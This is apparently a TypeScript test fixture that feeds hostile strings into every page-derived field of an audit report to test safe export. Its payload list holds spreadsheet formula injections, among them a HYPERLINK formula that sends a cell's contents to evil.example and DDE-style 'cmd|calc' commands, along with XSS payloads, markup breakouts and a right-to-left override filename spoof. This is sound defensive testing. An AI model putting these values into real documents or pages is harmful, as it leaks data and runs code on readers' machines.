import type { AuditResult, Finding } from '../../src/result';

/** Words of a page that mean harm to the documents they end up in, by what they try. */
export const HOSTILE_TEXTS = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"点此")',
  command: "+cmd|' /C calc'!A0",
  minus: '-2+3+cmd|calc',
  at: '@SUM(1+1)*cmd|calc',
  fullWidth: '＝1+1',
  afterTab: '\t=1+1',
  afterBreak: '\r\n=1+1',
  image: '<img src=x onerror=alert(1)>',
  script: '</script><script>alert(1)</script>',
  comment: '--><svg onload=alert(1)><!--',
  cdata: ']]></t><t><![CDATA[',
  entities: '&lt;b&gt; &amp;amp; &#x202e; " \' >',
  control: 'A\u0000B\u0001C\u0008D\u000bE\u001fF\u007fG\u0085H',
  noncharacters: 'A\ufffeB\uffffC',
  override: '\u202e文件\u202c.exe \u2066甲\u2069\u200f乙',
  loneSurrogates: 'A\ud800B\udc00C',
  emoji: '👩🏽‍💻年度报告🇨🇳𠮷',
  zeroWidth: '年\u200b度\ufeff报\u2060告',
  escape: '_x0041_ _x000D_ _x005F_',
  errorValue: '#REF!',
  quotes: '"甲","乙";\'丙\'',
  header: '&L&"宋体"&24&P &Q',
  long: '长'.repeat(40_000),
  longWord: `https://example.com/${'a'.repeat(3000)}`,
} as const;

/** A result in which every text that comes from a page is the given one. */
export function hostileResult(result: AuditResult, text: string): AuditResult {
  const { report } = result;
  const finding = (each: Finding): Finding => ({
    ...each,
    expected: text,
    actual: text,
    ...(each.data
      ? { data: { ...each.data, claim: { sentence: text, quote: text, readings: [] } } }
      : {}),
    quote: { prefix: text, exact: text, suffix: text },
  });
  const findings = result.findings.map(finding);
  const [first] = findings;
  return {
    ...result,
    page: { url: result.page.url, title: text },
    report: report && {
      ...report,
      title: text,
      issuer: text,
      sections: Object.fromEntries(
        Object.entries(report.sections).map(([key, section]) => [key, { ...section, title: text }]),
      ) as typeof report.sections,
      printed: Object.fromEntries(
        Object.entries(report.figures).map(([field]) => [field, text.slice(0, 200)]),
      ),
      figures: Object.fromEntries(
        Object.entries(report.figures).map(([field, value], index) => [
          field,
          index % 3 === 0 ? null : value,
        ]),
      ),
    },
    findings,
    ignored: first
      ? [{ rule: first.rule, at: first.at, reason: text, ignoredOn: '2026-11-20T04:00:00.000Z' }]
      : [],
  };
}
